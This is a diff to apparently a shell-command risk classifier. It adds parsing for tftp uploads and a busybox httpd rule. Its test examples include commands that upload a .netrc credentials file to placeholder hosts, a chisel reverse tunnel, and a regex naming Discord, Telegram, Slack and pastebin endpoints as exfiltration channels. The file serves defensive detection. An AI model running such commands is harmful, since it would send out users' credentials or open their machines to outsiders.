@@ -88,6 +88,13 @@ const SECRET_FILE = /^@[\w.-]*[~/]/;
 
 const BODY = /^(?:d|data|data-ascii|data-binary|data-urlencode|json|F|form)$/;
 
+/** `tftp host -c put file`: its command is the words that are left. */
+function puts(argv: readonly Word[]): Draft[] {
+  const at = argv.findIndex(one => literalText(one) === '-c');
+  const file = literalText(argv[at + 1] ?? []) === 'put' ? argv[at + 2] : undefined;
+  return at > 0 && file !== undefined ? [onPath('read', file)] : [];
+}
+
 /** Where a message goes to a room full of people: a file there is given away, a line of text is what they are for. */
 const CHATS =
   /^(?:https?:\/\/)?(?:(?:[\w-]+\.)?discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/|hooks\.slack\.com\/|slack\.com\/api\/files|(?:[\w-]+\.)?webhook\.office\.com\/|chat\.googleapis\.com\/|(?:www\.)?pastebin\.com\/api|api\.dropboxapi\.com|content\.dropboxapi\.com)/i;
@@ -519,6 +526,7 @@ export const NETWORK: Family = {
     ftp: {
       options: 'u=send>read* a n i v p g e d A 4 6 P= N=read o=write s= r= T= q=',
       does: 'send:connect',
+      stdin: 'transfer',
       examples: {
         'ftp --help': '',
         'ftp host.test': 'send',
@@ -530,7 +538,9 @@ export const NETWORK: Family = {
         'c|command=transfer e=transfer u|user= p= b=read f=read U= P= i= o= F= S= R m= l= D= N L I= A=read',
       does: 'send:connect',
       stdin: 'transfer',
+      special: puts,
       examples: {
+        'tftp x.test -c put /home/user/.netrc': 'credential-access send',
         'lftp --help': '',
         'lftp host.test': 'send',
         "lftp -c 'put /home/user/.netrc' host.test": 'credential-access send',
@@ -617,7 +627,7 @@ export const NETWORK: Family = {
           'chisel client x.test R:2222:localhost:22': 'listen',
         },
       },
-    'http-server|serve|live-server|webfsd|darkhttpd|miniserve|caddy|nginx|apache2|httpd|lighttpd|traefik|haproxy|uvicorn|gunicorn|simplehttpserver|sshd|vncserver|x11vnc|xrdp|stunnel':
+    'http-server|serve|live-server|webfsd|darkhttpd|miniserve|caddy|nginx|apache2|lighttpd|traefik|haproxy|uvicorn|gunicorn|simplehttpserver|sshd|vncserver|x11vnc|xrdp|stunnel':
       {
         options:
           'p|port= l|listen= b|bind= a|address= c|config=read f=read t|test+ask T+ask v+ask V+ask s= w= D= g= k=',
@@ -625,6 +635,16 @@ export const NETWORK: Family = {
         does: 'listen:server+',
         examples: { 'http-server --version': '', 'http-server -p 8080': 'listen' },
       },
+    httpd: {
+      options: 'p=listen:server@res c=read u= r= e= d= m= k= f? t+ask v+ask S',
+      does: 'listen:server+',
+      special: argv => {
+        const at = argv.findIndex(one => literalText(one) === '-h');
+        const folder = at < 0 ? undefined : argv[at + 1];
+        return folder === undefined ? [] : [onPath('read', folder, { recursive: true })];
+      },
+      examples: { 'httpd -v': '', 'httpd -k start': 'listen', 'busybox httpd -p 80 -h .': 'listen' },
+    },
     'ttyd|gotty|wetty|shellinaboxd|telnetd|in.telnetd': {
       options:
         'p|port= i|interface=listen:web-terminal@res a= I|index=read S|ssl C|ssl-cert=read K|ssl-key=read c|credential= W|writable w R r once s|service= t= T= b= g= u= f|static-file= l= F k O o q v+ask V+ask d D',
